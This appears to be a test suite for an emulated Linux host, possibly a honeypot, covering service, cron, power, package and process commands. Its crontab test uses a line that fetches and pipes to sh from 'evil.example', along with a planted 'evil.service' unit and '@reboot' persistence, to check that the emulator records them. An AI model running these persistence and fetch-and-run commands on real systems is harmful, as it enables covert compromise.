/** Services, schedules, packages, processes: what persistence is made of, and how the machine answers to it. */
import { describe, expect, it } from 'vitest';
import { observed, waitlessMachine } from './fixtures/waitless-machine.ts';

const m = waitlessMachine();
const user = m.persona.users.find(({ login, uid }) => login && uid >= 1000)!.name;

describe('systemctl and service', () => {
  it('describe ssh with the process that ps shows', async () => {
    const pid = await m.out('pgrep -o sshd');
    for (const line of ['systemctl status ssh', 'systemctl status sshd.service', 'service ssh status'])
      expect(await m.out(line)).toMatch(
        new RegExp(
          `^● ssh\\.service - OpenBSD Secure Shell server\\n +Loaded: loaded [\\s\\S]*Active: active \\(running\\) since [\\s\\S]*Main PID: ${pid} \\(sshd\\)`,
        ),
      );
    expect(await m.out('ps -o comm= -p 1')).toBe('systemd');
  });

  it('remember what was stopped', async () => {
    const fresh = waitlessMachine();
    await fresh.run('systemctl stop cron');
    expect(await fresh.run('systemctl is-active cron')).toMatchObject({ stdout: 'inactive\n', status: { code: 3 } });
    expect(await fresh.run('systemctl status cron')).toMatchObject({ status: { code: 3 } });
    await fresh.run('service cron start');
    expect(await fresh.out('systemctl is-active cron')).toBe('active');
  });

  it.each([
    ['systemctl is-enabled ssh', /^enabled$/, /^$/, 0],
    ['systemctl list-units', /ssh\.service +loaded active running OpenBSD/, /^$/, 0],
    ['systemctl list-unit-files', /unit files listed/, /^$/, 0],
    ['systemctl --failed', /0 loaded units/, /^$/, 0],
    ['systemctl --version', /^systemd 252/, /^$/, 0],
    ['systemctl get-default', /^graphical/, /^$/, 0],
    ['systemctl is-system-running', /^running$/, /^$/, 0],
    ['systemctl daemon-reload', /^$/, /^$/, 0],
    ['systemctl status', /State: running/, /^$/, 0],
    ['systemctl cat ssh', /^\[Unit\]$/m, /^$/, 0],
    ['systemctl status nosuch', /^$/, /^Unit nosuch\.service could not be found\.\n$/, 4],
    ['systemctl start nosuch', /^$/, /^Failed to start nosuch\.service: Unit nosuch\.service not found\.\n$/, 5],
    ['systemctl enable nosuch', /^$/, /Unit file nosuch\.service does not exist/, 1],
    ['systemctl disable cron', /^$/, /systemd-sysv-install disable cron/, 0],
    ['systemctl frobnicate', /^$/, /^Unknown command verb frobnicate\.\n$/, 1],
    ['systemctl start', /^$/, /^Too few arguments\.\n$/, 1],
    ['service --status-all', /\[ \+ \] {2}ssh/, /^$/, 0],
    ['service nosuch start', /^$/, /not found/, 5],
    ['service', /^$/, /^Usage: service/, 1],
    [
      'journalctl -u ssh -n 2',
      /Accepted password for root from 198\.51\.100\.7 port 50022 ssh2[\s\S]*session opened/,
      /^$/,
      0,
    ],
    ['journalctl -u nosuch', /-- No entries --/, /^$/, 0],
    ['journalctl --vacuum-time=1s', /^$/, /^Vacuuming done/, 0],
    ['update-rc.d x', /^$/, /not enough arguments/, 1],
    ['update-rc.d nosuch defaults', /^$/, /unable to read \/etc\/init\.d\/nosuch/, 1],
  ])('%s', async (line, stdout, stderr, code) => {
    const outcome = await m.run(line);
    expect(outcome.stdout.trimEnd()).toMatch(stdout);
    expect(outcome.stderr).toMatch(stderr);
    expect(outcome.status).toEqual({ code });
  });

  it('belong to root', async () => {
    expect((await m.run('systemctl stop ssh', { user })).stderr).toContain('Failed to stop ssh.service: Access denied');
    expect(await m.out('systemctl is-active ssh')).toBe('active');
    expect((await m.run('journalctl', { user })).stderr).toContain('insufficient permissions');
  });

  it('a unit that the attacker wrote is known', async () => {
    const fresh = waitlessMachine();
    await fresh.run(
      'printf "[Service]\\nExecStart=/tmp/x\\n" > /etc/systemd/system/evil.service; systemctl start evil',
    );
    expect(await fresh.out('systemctl is-active evil')).toBe('active');
  });
});

describe('crontab', () => {
  it('lists what was given, tells the defender, and forgets on -r', async () => {
    const fresh = waitlessMachine();
    expect(await fresh.run('crontab -l')).toMatchObject({ status: { code: 1 }, stderr: 'no crontab for root\n' });
    const line = '*/5 * * * * curl -s http://evil.example/x | sh';
    const given = await fresh.run(`(crontab -l 2>/dev/null; echo '${line}') | crontab -`);
    expect(observed(given, 'file').map(({ path, content }) => [path, Buffer.from(content).toString()])).toEqual([
      ['/var/spool/cron/crontabs/root', `${line}\n`],
    ]);
    expect(await fresh.out('crontab -l; crontab -u root -l; cat /var/spool/cron/crontabs/root')).toBe(
      [line, line, line].join('\n'),
    );
    expect(await fresh.out('stat -c %a /var/spool/cron/crontabs/root')).toBe('600');
    await fresh.run('echo "@reboot /tmp/x" > c; crontab c');
    expect(await fresh.out('crontab -l')).toBe('@reboot /tmp/x');
    await fresh.run('crontab -r');
    expect((await fresh.run('crontab -r')).stderr).toBe('no crontab for root\n');
  });

  it.each([
    ['echo garbage | crontab -', /^"-":1: bad minute\nerrors in crontab file, can't install\.\n$/],
    ['crontab nofile', /^nofile: No such file or directory\n$/],
    ['crontab -u nosuch -l', /user `nosuch' unknown/],
    ['crontab -z', /usage:\tcrontab/],
  ])('%s', async (line, stderr) => {
    const outcome = await m.run(line);
    expect(outcome.stderr).toMatch(stderr);
    expect(outcome.status).toEqual({ code: 1 });
  });

  it('of others is for root', async () => {
    expect((await m.run('crontab -u root -l', { user })).stderr).toContain('must be privileged to use -u');
  });
});

describe('power', () => {
  it.each(['reboot', 'shutdown -r now', 'halt', 'poweroff', 'systemctl reboot'])('%s cuts the line', async (line) => {
    const outcome = await waitlessMachine().run(`${line}; echo still here`);
    expect(outcome.stdout).not.toContain('still here');
  });

  it('is asked for and scheduled as on the real one', async () => {
    expect((await m.run('/usr/sbin/reboot', { user })).status).toEqual({ code: 1 });
    expect((await m.run('shutdown +5')).stderr).toMatch(/^Shutdown scheduled for /);
    expect(await m.out('shutdown --help')).toContain('Cancel a pending shutdown');
    expect((await m.run('shutdown -c')).status).toEqual({ code: 0 });
  });
});

describe('packages', () => {
  it.each([
    ['apt-get update', /^Hit:1 http:\/\/mirrors\.edge\.kernel\.org[\s\S]*Reading package lists\.\.\. Done$/, 0],
    ['apt-get install -y bash', /bash is already the newest version[\s\S]*0 upgraded, 0 newly installed/, 0],
    ['apt-get -y install nosuch-tool', /The following NEW packages will be installed:\n {2}nosuch-tool/, 100],
    ['apt-get install nosuch-tool < /dev/null', /\[Y\/n\] Abort\.$/, 1],
    ['apt-get remove nosuch-tool', /Package 'nosuch-tool' is not installed/, 0],
    ['apt-get upgrade', /Calculating upgrade\.\.\. Done/, 0],
    ['apt list bash', /^bash\/stable,now \S+ amd64 \[installed\]$/m, 0],
    ['apt search editor', /Full Text Search\.\.\. Done/, 0],
    ['apt show bash', /^Package: bash$/m, 0],
    ['apt-cache policy bash', /Installed: \S+/, 0],
    ['apt-cache search wget', /^wget - /m, 0],
    ['apt-cache pkgnames', /^bash$/m, 0],
    ['apt --version', /^apt 2\.6\.1/, 0],
    ['apt moo', /Have you mooed today/, 0],
    ['apt-get frobnicate', /^$/, 100],
    ['dpkg -l bash', /^ii {2}bash +\S+ +amd64/m, 0],
    ['dpkg -s bash', /^Status: install ok installed$/m, 0],
    ['dpkg -L bash', /\/usr\/bin\/bash/, 0],
    ['dpkg --print-architecture', /^amd64$/, 0],
    ['dpkg --get-selections', /^bash\s+install$/m, 0],
    ['dpkg --version', /1\.21\.2\d/, 0],
    ['dpkg -l nosuch', /^$/, 1],
    ['dpkg -s nosuch', /^$/, 1],
    ['dpkg -i nofile.deb', /^$/, 1],
    ['dpkg -S /nosuch', /^$/, 1],
    ['dpkg', /^$/, 2],
  ])('%s', async (line, stdout, code) => {
    const outcome = await m.run(line);
    expect(outcome.stdout.trimEnd()).toMatch(stdout);
    expect(outcome.status).toEqual({ code });
    expect(outcome.stderr === '' || code !== 0 || line.startsWith('apt ')).toBe(true);
  });

  it('need root, and say what was wanted', async () => {
    expect((await m.run('apt-get install x1', { user })).stderr).toContain('are you root?');
    expect((await m.run('apt-get update', { user })).status).toEqual({ code: 100 });
    expect(observed(await m.run('apt-get -y install masscan'), 'download')).toHaveLength(1);
  });
});

describe('processes', () => {
  it('show the attacker their own shell', async () => {
    const line = 'echo $$ $PPID; ps -o pid=,ppid=,comm= -p $$';
    const [own, row] = (await m.out(line)).split('\n');
    const [pid, ppid] = own!.split(' ');
    expect(row!.trim().split(/\s+/)).toEqual([pid, ppid, 'bash']);
    expect(await m.out('ps -ef | grep "[b]ash -c"')).toContain('bash -c ps -ef');
    expect(await m.out('ps aux | grep -c "[s]shd: root"')).not.toBe('0');
  });

  it.each([
    ['ps aux', /^USER +PID %CPU %MEM +VSZ +RSS TTY +STAT START +TIME COMMAND\nroot +1 /],
    ['ps -ef', /^UID +PID +PPID +C STIME TTY +TIME CMD\nroot +1 +0 /],
    ['ps -eo pid,user,args --sort=-pid | head -2', /PID USER +COMMAND\n +\d+ root/],
    ['ps -C sshd -o pid=', /^ *\d+/],
    ['ps auxf', /\\_ /],
    ['ps -ejH', /PGID/],
    ['ps -el', /^S +UID +PID/],
    ['ps axo pid,ppid,stat,tty,time,etime,rss,vsz,comm --no-headers | head -1', /^ +1 +0 Ss/],
    ['ps -u root -o comm= | head -1', /^systemd$/],
    ['ps --ppid=1 -o comm=', /sshd/],
    ['ps -p 1 -o user= -o cmd=', /^root +\/sbin\/init/],
    ['ps --version', /^ps from procps-ng 4\.0\.2$/],
    ['pgrep -l sshd', /^\d+ sshd/],
    ['pgrep -af sshd', /^\d+ sshd: /],
    ['pgrep -c sshd', /^\d+$/],
    ['pgrep -u root -x cron', /^\d+$/],
    ['pidof sshd', /^\d+/],
    ['pstree', /^systemd/],
    ['pstree -p', /systemd\(1\)/],
    ['top -bn1 | head -7 | tail -1', /PID USER +PR +NI +VIRT/],
    ['top -b -n 2 -d 1 -p 1 | grep -c systemd', /^2$/],
    ['top -bcn1 -o %MEM -u root | grep init', /\/sbin\/init/],
    ['kill -l', /HUP/],
    ['/usr/bin/kill -l 9', /^KILL$/],
  ])('%s', async (line, stdout) => {
    expect(await m.out(line)).toMatch(stdout);
  });

  it.each([
    ['ps -o nope', /^error: unknown user-defined format specifier "nope"\n/, 1],
    ['ps --nope', /^error: unknown gnu long option\n/, 1],
    ['ps -p 999999', /^$/, 1],
    ['pgrep', /no matching criteria specified/, 2],
    ['pgrep a b', /only one pattern can be provided/, 2],
    ['pgrep nosuchprocess', /^$/, 1],
    ['pidof nosuch', /^$/, 1],
    ['killall nosuch', /^nosuch: no process found\n$/, 1],
    ['killall', /^Usage: killall/, 1],
    ['/usr/bin/kill 999999', /No such process/, 1],
    ['/usr/bin/kill -NOPE 1', /unknown signal name NOPE/, 1],
    ['/usr/bin/kill abc', /failed to parse argument: 'abc'/, 1],
    ['top', /^top: failed tty get\n$/, 1],
    ['top -bz', /unknown option 'z'/, 1],
  ])('%s', async (line, stderr, code) => {
    const outcome = await m.run(`export LC_ALL=C; ${line}`);
    expect(outcome.stderr).toMatch(stderr);
    expect(outcome.status).toEqual({ code });
  });

  it('can be killed by those who own them', async () => {
    expect(await m.out('sleep 1000 & kill $!; wait $!; echo $?')).toBe('143');
    expect((await m.run('pkill cron', { user })).stderr).toContain('Operation not permitted');
    expect((await m.run('killall cron', { user })).stderr).toContain('Operation not permitted');
  });
});
